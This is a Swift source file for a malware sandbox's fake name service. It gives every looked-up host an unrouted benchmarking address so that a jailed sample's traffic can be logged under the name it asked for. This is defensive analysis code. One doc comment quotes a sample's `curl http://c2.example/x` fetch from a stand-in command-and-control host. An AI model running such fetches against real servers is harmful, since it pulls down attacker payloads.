// shmwarden — Linux host agent for executables dropped on tmpfs.
// SPDX-License-Identifier: Apache-2.0

/// The addresses the jail's name service gives the host names it is asked for
/// (`SandboxNameService`): each name an IPv4 address of its own in 198.18.0.0/15, RFC 2544's
/// benchmarking range, which is routed nowhere, given in the order the names are asked.
///
/// A name answered "not found" ended a sample's story at its lookup: `curl http://c2.example/x`
/// stopped there, and the request it meant to make, the TLS server name, the miner's login were
/// never seen. Answered with an address, the sample connects to it, the connect is made to the
/// sink like any to an outside address, and what it sends is on record under the name it
/// looked up (`name(of:)`). `localhost` and names under it are the loopback, as the jail's
/// /etc/hosts has it.
///
/// Pure.
struct SandboxNameBook: Equatable {
    /// The names given addresses, in turn: the nth (from 1) has address `address(n)`.
    private var names: [String] = []
    private var numbers: [String: Int] = [:]

    /// The most names given an address in one run; past it, a name is answered "not found".
    static let limit = 4096
    static let loopback: [UInt8] = [127, 0, 0, 1]

    /// The address for host name `name` (the one it was given, or the next free one); nil for
    /// no host name (empty, over 253 bytes, with a byte outside printable ASCII or a space) or
    /// past `limit`.
    mutating func address(for name: String) -> [UInt8]? {
        let key = Self.key(name)
        guard !key.isEmpty, key.utf8.count <= 253, key.utf8.allSatisfy({ $0 > 0x20 && $0 < 0x7f }) else { return nil }
        if Self.isLocalhost(name) { return Self.loopback }
        if let number = numbers[key] { return Self.address(number) }
        guard names.count < Self.limit else { return nil }
        names.append(key)
        numbers[key] = names.count
        return Self.address(names.count)
    }

    /// The `number`th address: 198.18.0.1 on, the number's low bytes after 198.18.
    private static func address(_ number: Int) -> [UInt8] {
        [198, 18 + UInt8(number >> 16), UInt8(number >> 8 & 0xff), UInt8(number & 0xff)]
    }

    /// Which address of the range (198.18.0.0/15) `address` is, counting from 198.18.0.1; nil
    /// for one outside it.
    private static func number(of address: [UInt8]) -> Int? {
        guard address.count == 4, address[0] == 198, address[1] == 18 || address[1] == 19 else { return nil }
        let number = Int(address[1] - 18) << 16 | Int(address[2]) << 8 | Int(address[3])
        return number > 0 ? number : nil
    }

    /// `name` as the book keys it: lower case, without a final dot.
    private static func key(_ name: String) -> String {
        var key = name.lowercased()
        if key.hasSuffix(".") { key.removeLast() }
        return key
    }

    /// Whether `name` is localhost or a name under it (the loopback, RFC 6761).
    static func isLocalhost(_ name: String) -> Bool {
        let key = key(name)
        return key == "localhost" || key.hasSuffix(".localhost")
    }

    /// The name that was given `address` (4 bytes, or IPv4-mapped in 16), if one was.
    func name(of address: [UInt8]) -> String? {
        let v4 =
            address.count == 16 && address.prefix(12).elementsEqual(SandboxStandIn.mappedPrefix)
            ? Array(address.suffix(4)) : address
        guard let number = Self.number(of: v4), number <= names.count else { return nil }
        return names[number - 1]
    }

    /// How many names were given an address.
    var count: Int { names.count }

    /// `address` (4 bytes) as text.
    static func text(_ address: [UInt8]) -> String {
        guard address.count == 4 else { return "" }
        return "\(address[0]).\(address[1]).\(address[2]).\(address[3])"
    }

    /// Whether `text` is an address of the book's range (198.18.0.0/15).
    static func isGiven(_ text: String) -> Bool { addressBytes(text).flatMap(number(of:)) != nil }

    /// The IPv4 address in `text` as the report writes one (`198.18.0.1`, or IPv4-mapped:
    /// `::ffff:198.18.0.1`); nil for any other.
    static func addressBytes(_ text: String) -> [UInt8]? {
        let dotted = text.hasPrefix("::ffff:") ? String(text.dropFirst(7)) : text
        let fields = dotted.split(separator: ".", omittingEmptySubsequences: false)
        let parts = fields.compactMap { UInt8($0) }
        return fields.count == 4 && parts.count == 4 ? parts : nil
    }
}
